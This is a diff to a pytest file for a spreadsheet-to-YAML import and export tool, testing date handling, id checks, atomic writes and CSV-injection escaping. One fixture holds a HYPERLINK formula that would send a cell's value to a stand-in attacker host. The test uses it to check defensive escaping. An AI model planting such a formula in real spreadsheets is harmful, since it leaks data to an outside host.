@@ -195,8 +195,8 @@ def mistakes_sheet(path: Path, content: Path) -> None:
         # 5, 6: a merged summary cell (C5:C6)
         ["merged-one", "Merged One", "Shared summary", "Analysts", *good],
         ["merged-two", "Merged Two", None, "Analysts", *good],
-        # 7: a date typed as text
-        ["date-text", "Date Text", "Makes things.", "Analysts", *good[:4], "28/11/2026"],
+        # 7: a date typed month first (read the UK way, day first, it is impossible)
+        ["date-text", "Date Text", "Makes things.", "Analysts", *good[:4], "11/28/2026"],
         # 8: a bad web address
         ["bad-url", "Bad Url", "Makes things.", "Analysts", "www.example.org", *good[1:]],
         # 9: a required field left empty
@@ -218,10 +218,10 @@ def mistakes_sheet(path: Path, content: Path) -> None:
 
 EXPECTED = [
     "mistakes.xlsx › Organisations!C5  summary  merged cells C5:C6 (unmerge them and type the value in every row that needs it)",  # noqa: E501
-    "mistakes.xlsx › Organisations!I7  reviewed  '28/11/2026' is text, not a date (type the date as YYYY-MM-DD (e.g. 2026-11-28) or as a date)",  # noqa: E501
+    "mistakes.xlsx › Organisations!I7  reviewed  '11/28/2026': not a real date read day first (DD/MM/YYYY); is it written month first? (dates are YYYY-MM-DD (2026-11-28) or DD/MM/YYYY (28/11/2026))",  # noqa: E501
     "mistakes.xlsx › Organisations!A10  id  duplicate id 'cafe-societe' (first in row 2) (ids must be unique; rename or delete one of the rows)",  # noqa: E501
     "mistakes.xlsx › Organisations!G11  tags  tags are separated with ',' (separate list items with ; (semicolon), e.g. a; b; c)",  # noqa: E501
-    "mistakes.xlsx › Organisations!A12  id  id 'Bad Id' is not lower case with hyphens (it becomes the file name, e.g. office-for-ai)",  # noqa: E501
+    "mistakes.xlsx › Organisations!A12  id  id 'Bad Id' is not lower case with hyphens (it becomes the file name: bad-id)",  # noqa: E501
     "mistakes.xlsx › Points!A3  section  unknown section 'reasons' (use why, challenges or skills)",
 ]
 
@@ -263,5 +263,267 @@ def test_an_import_that_breaks_another_file_is_refused(project: Path, tmp_path: 
     before = snapshot(project / "content")
     with pytest.raises(BookletError) as caught:
         import_sheets(tmp_path / "fewer.xlsx", project / "content", prune=True)
-    assert any("audiences.yaml" in p.line() and name in p.line() for p in caught.value.problems)
+    audience = next(a for a in featured.values() if name in a.get("featured", []))["id"]
+    assert (
+        f"audience {audience} features {name}, which --prune deletes (add --drop-references to take it out of the "
+        "audience too, or keep its row in the sheet)" in [p.what + f" ({p.hint})" for p in caught.value.problems]
+    )
     assert snapshot(project / "content") == before
+    result = import_sheets(tmp_path / "fewer.xlsx", project / "content", prune=True, drop_references=True)
+    assert sorted(c.action for c in result.changes) == ["changed", "deleted"]
+    assert f"audience {audience}: {name} taken out of featured" in result.notes
+    after = yaml.safe_load((project / "content" / "audiences.yaml").read_text())["audiences"]
+    assert all(name not in a.get("featured", []) for a in after)
+    assert load_project_content(project / "content").errors == []
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "summary": "+44 20 7946 0000 is the number to call.",
+    "roles": ["@mention", "-minus", "'=quoted already", "Analysts"],
+}
+
+
+def test_text_that_looks_like_a_formula_stays_text_both_ways(project: Path, tmp_path: Path) -> None:
+    """OWASP's CSV-injection advice on export (a `'` before = + - @ tab CR), undone exactly on import."""
+    path = project / "content" / "organisations" / "gds.yaml"
+    data = yaml.safe_load(path.read_text())
+    data.update(FORMULAS)
+    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
+    before = snapshot(project / "content")
+    export_sheets(project / "content", tmp_path / "content.xlsx")
+    export_sheets(project / "content", tmp_path / "csv")
+    gds = next(
+        r
+        for r in openpyxl.load_workbook(tmp_path / "content.xlsx")["Organisations"].iter_rows(min_row=2)
+        if r[0].value == "gds"
+    )
+    assert (gds[1].data_type, gds[1].value) == ("s", FORMULAS["name"])  # text, not a live formula
+    text = (tmp_path / "csv" / "Organisations.csv").read_text(encoding="utf-8-sig")
+    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"' in text
+    assert ",'+44 20 7946 0000 is the number to call.," in text
+    assert "'@mention; -minus; '=quoted already; Analysts" in text  # the list starts with @: one quote
+    for source in (tmp_path / "content.xlsx", tmp_path / "csv"):
+        assert import_sheets(source, project / "content").changes == []
+        assert snapshot(project / "content") == before
+    write_ods(tmp_path / "content.xlsx", tmp_path / "content.ods")
+    assert import_sheets(tmp_path / "content.ods", project / "content").changes == []
+
+
+def edited(project: Path, tmp_path: Path, name: str, edit) -> Path:
+    export_sheets(project / "content", tmp_path / "content.xlsx")
+    book = openpyxl.load_workbook(tmp_path / "content.xlsx")
+    edit(book)
+    book.save(tmp_path / name)
+    return tmp_path / name
+
+
+def import_lines(source: Path, project: Path) -> tuple[int, list[str]]:
+    """Run `booklet import` from the sheet's folder, as people do, so messages name it as typed."""
+    import os
+
+    here = os.getcwd()
+    os.chdir(source.parent)
+    try:
+        result = runner.invoke(app, ["import", source.name, "--content", str(project / "content")])
+    finally:
+        os.chdir(here)
+    assert "Traceback" not in result.output
+    return result.exit_code, [line for line in (result.stdout + result.stderr).splitlines() if line]
+
+
+def test_import_writes_every_file_or_none(project: Path, tmp_path: Path, monkeypatch) -> None:
+    import os
+
+    def edit(book):
+        book["Organisations"]["B2"] = "Renamed One"
+        book["Routes"]["B2"] = "Renamed Route"
+
+    source = edited(project, tmp_path, "two.xlsx", edit)
+    before = snapshot(project / "content")
+    real = os.fdopen
+    opened = []
+
+    def second_write_fails(fd, mode="r", *args, **kwargs):  # the disk fills up while the second file is written
+        opened.append(mode)
+        if opened.count("wb") == 2 and mode == "wb":
+            os.close(fd)
+            raise OSError(28, "No space left on device")
+        return real(fd, mode, *args, **kwargs)
+
+    monkeypatch.setattr(os, "fdopen", second_write_fails)
+    code, lines = import_lines(source, project)
+    monkeypatch.setattr(os, "fdopen", real)
+    assert code == 4, lines
+    assert lines[-1].startswith("error: content/") and lines[-1].endswith(
+        "cannot be written (No space left on device); no file was changed "
+        "(check the folder's permissions and free space, then import again)"
+    )
+    assert snapshot(project / "content") == before
+    assert not [p for p in (project / "content").rglob("*.tmp")]
+    code, lines = import_lines(source, project)
+    assert code == 0 and len([line for line in lines if line.startswith("changed: ")]) == 2
+
+
+def test_a_sheet_without_ids_or_renamed_is_refused_not_skipped(project: Path, tmp_path: Path) -> None:
+    def rename_column(book):
+        book["Routes"]["A1"] = "route id"
+
+    code, lines = import_lines(edited(project, tmp_path, "noid.xlsx", rename_column), project)
+    assert code == 1
+    assert lines == [
+        "error: noid.xlsx › Routes!A1  -  unknown column 'route_id' (the Routes sheet has columns: id, title, summary,"
+        " url, steps, tags, source, reviewed)",
+        "error: noid.xlsx › Routes!1  id  has no 'id' column (add it to the first row)",
+    ]
+
+    def rename_sheet(book):
+        book["Organisations"].title = "Organisations (edited)"
+
+    code, lines = import_lines(edited(project, tmp_path, "renamed.xlsx", rename_sheet), project)
+    assert code == 1
+    assert lines == [
+        "error: renamed.xlsx › Organisations (edited)  -  this sheet is not read: sheets are named Organisations, "
+        "Routes and Points (rename it to Organisations?)"
+    ]
+
+
+def test_a_semicolon_csv_from_excel_imports(project: Path, tmp_path: Path) -> None:
+    export_sheets(project / "content", tmp_path / "csv")
+    path = tmp_path / "csv" / "Routes.csv"
+    import csv as csvlib
+    import io
+
+    rows = list(csvlib.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
+    rows[1][1] = 'The "Fast Stream", renamed'
+    out = io.StringIO()
+    csvlib.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
+    path.write_text(out.getvalue(), encoding="utf-8-sig")
+    result = import_sheets(path, project / "content")
+    assert [c.action for c in result.changes] == ["changed"]
+    routes = yaml.safe_load((project / "content" / "routes.yaml").read_text())["routes"]
+    assert routes[0]["title"] == 'The "Fast Stream", renamed'
+
+
+def test_excel_habits_are_read_as_meant_and_every_problem_comes_at_once(project: Path, tmp_path: Path) -> None:
+    """A blank id beside another mistake, a name as id, Alt+Enter lists with pasted bullets, UK dates,
+    a formula with no saved value, and a website without https:// — all in one pass, none a crash."""
+    good = ["https://www.example.org", 10, "technical", "https://www.example.org", "15/11/2026"]
+
+    def edit(book):
+        orgs = book["Organisations"]
+        orgs.append([None, "Gwynedd Council", "Runs services.", "• Planners\n• Data analysts", *good])
+        orgs.append([None, None, "No name, no id.", "Analysts", good[0], 10, "technical", good[0], "soon"])
+        orgs.append(["Powys Council", "Powys", "Runs services.", "Analysts", *good])
+        orgs.append(["no-https", "No Https", "Runs services.", "Analysts", "www.example.org", *good[1:4], "soon"])
+        orgs.append(["formula", '=UPPER("x")', "Runs services.", "Analysts", *good])
+
+    source = edited(project, tmp_path, "habits.xlsx", edit)
+    last = openpyxl.load_workbook(source)["Organisations"].max_row
+    code, lines = import_lines(source, project)
+    assert code == 1
+    hint = "(type the date as YYYY-MM-DD (e.g. 2026-11-28))"
+    assert lines == [
+        f"error: habits.xlsx › Organisations!I{last - 3}  reviewed  'soon' is text, not a date {hint}",
+        f"error: habits.xlsx › Organisations!A{last - 3}  id  has no id (give each row an id, or a name to make it "
+        "from)",
+        f"error: habits.xlsx › Organisations!A{last - 2}  id  id 'Powys Council' is not lower case with hyphens (it "
+        "becomes the file name: powys-council)",
+        f"error: habits.xlsx › Organisations!I{last - 1}  reviewed  'soon' is text, not a date {hint}",
+        f"error: habits.xlsx › Organisations!B{last}  name  a formula with no saved value (open the file in Excel or "
+        "LibreOffice and save it, or type the value instead)",
+        f"error: habits.xlsx › Organisations!E{last - 1}  website  'www.example.org' must be an https:// address "
+        "(write it as https://www.example.org)",
+        f"error: habits.xlsx › Organisations!B{last - 3}  name  missing required key 'name' (Full name as printed, "
+        'e.g. "Government Digital Service (GDS)".)',
+    ]
+
+    def fixed(book):
+        edit(book)
+        orgs = book["Organisations"]
+        orgs.delete_rows(orgs.max_row - 3, 4)  # the four rows with mistakes
+
+    code, lines = import_lines(edited(project, tmp_path, "fixed.xlsx", fixed), project)
+    assert code == 0, lines
+    assert (
+        "note: fixed.xlsx › Organisations!A" + str(last - 4) + ": no id; gwynedd-council was made from the name"
+        in lines
+    )
+    assert (
+        "note: fixed.xlsx › Organisations, column reviewed: dates written DD/MM/YYYY are read the UK way, day first "
+        "(e.g. 03/04/2026 is 3 April 2026)" in lines
+    )
+    assert (
+        "note: fixed.xlsx › Organisations, column roles: items on separate lines (Alt+Enter) or after pasted bullets "
+        "became list items" in lines
+    )
+    made = yaml.safe_load((project / "content" / "organisations" / "gwynedd-council.yaml").read_text())
+    assert made["roles"] == ["Planners", "Data analysts"] and made["reviewed"] == dt.date(2026, 11, 15)
+
+
+@pytest.mark.parametrize("kind", ["csv", "ods"])
+def test_excel_habits_read_the_same_from_csv_and_ods(kind: str, project: Path, tmp_path: Path) -> None:
+    row = [
+        None,
+        "Gwynedd Council",
+        "Runs services.",
+        "• Planners\n• Data analysts",
+        "https://www.example.org",
+        10,
+        "technical",
+        "https://www.example.org",
+        "15/11/2026",
+    ]
+    if kind == "csv":
+        export_sheets(project / "content", tmp_path / "csv")
+        with (tmp_path / "csv" / "Organisations.csv").open("a", encoding="utf-8", newline="") as handle:
+            import csv as csvlib
+
+            csvlib.writer(handle, lineterminator="\r\n").writerow(["" if v is None else v for v in row])
+        source = tmp_path / "csv" / "Organisations.csv"
+    else:
+        xlsx = edited(project, tmp_path, "habits.xlsx", lambda book: book["Organisations"].append(row))
+        source = tmp_path / "habits.ods"
+        write_ods(xlsx, source)
+    result = import_sheets(source, project / "content")
+    assert [(c.name, c.action) for c in result.changes] == [("content/organisations/gwynedd-council.yaml", "created")]
+    made = yaml.safe_load((project / "content" / "organisations" / "gwynedd-council.yaml").read_text())
+    assert made["roles"] == ["Planners", "Data analysts"] and made["reviewed"] == dt.date(2026, 11, 15)
+
+
+def test_import_shows_the_warnings_the_change_brings(project: Path, tmp_path: Path) -> None:
+    row = ["old-one", "Old One", "Makes things.", "Analysts", "https://www.example.org", 10, "technical"]
+    source = edited(
+        project,
+        tmp_path,
+        "old.xlsx",
+        lambda book: book["Organisations"].append([*row, "https://www.example.org", dt.date(2020, 1, 1)]),
+    )
+    code, lines = import_lines(source, project)
+    assert code == 0
+    warned = [line for line in lines if "warning:" in line]
+    assert len(warned) == 1
+    assert warned[0].startswith(
+        f"old.xlsx › Organisations!I{openpyxl.load_workbook(source)['Organisations'].max_row}  reviewed  "
+        "warning: organisation 'old-one' was last reviewed on 2020-01-01"
+    )
+
+
+def test_list_cells_typed_the_excel_way_become_items() -> None:
+    from booklet.adapters.sheets.workbook import list_items
+
+    assert list_items("Analysts; Engineers") == ["Analysts", "Engineers"]
+    assert list_items("• Planners\n• Data analysts\r\n") == ["Planners", "Data analysts"]
+    assert list_items("Analysts • Engineers · Planners") == ["Analysts", "Engineers", "Planners"]
+    assert list_items("- Apply online\n- Sit the tests") == ["Apply online", "Sit the tests"]
+    assert list_items("Data-led roles; -minus") == ["Data-led roles", "-minus"]  # a hyphen is not a bullet
+
+
+def test_import_prints_at_most_forty_problem_lines(project: Path, tmp_path: Path) -> None:
+    def many(book):
+        for n in range(100):
+            book["Organisations"].append([f"Bad Id {n}", "Name", "Does things.", "Analysts"])
+
+    code, lines = import_lines(edited(project, tmp_path, "many.xlsx", many), project)
+    assert code == 1 and len(lines) == 40
+    assert lines[-1] == "error: many.xlsx  -  … and 361 more problems (fix these first and run again)"
